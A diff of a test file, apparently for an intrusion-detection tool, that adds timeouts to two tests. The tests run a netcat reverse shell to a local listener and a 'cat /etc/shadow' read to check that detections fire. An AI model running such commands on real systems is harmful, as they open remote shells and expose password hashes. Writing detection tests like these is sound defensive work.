@@ -84,7 +84,9 @@ sources: [{ sensor: { host: web-1, runtimes: [], captures: { before: 20s, after:
     return fitting;
   }
 
-  test('a shell in a container that is commanded from elsewhere pages, and the capture has what was typed', async () => {
+  test('a shell in a container that is commanded from elsewhere pages, and the capture has what was typed', {
+    timeout: 150_000,
+  }, async () => {
     const { port } = intruder.address() as AddressInfo;
     const script = `/bin/nc 127.0.0.1 ${port} -e /bin/sh`;
     await containers.run({ id, mark: 'reverse', script, onHostNetwork: true });
@@ -112,7 +114,7 @@ sources: [{ sensor: { host: web-1, runtimes: [], captures: { before: 20s, after:
     }
   });
 
-  test('what somebody did who is signed in to the machine is asked of that person', async () => {
+  test('what somebody did who is signed in to the machine is asked of that person', { timeout: 150_000 }, async () => {
     await run(LOGIN[0] ?? '', [...LOGIN.slice(1), '/bin/cat', '/etc/shadow']);
     const found = await caseOf('daemon', 'Password hashes read');
     expect(found.summary).toMatchObject({ person: { name: 'Alice Example' } });
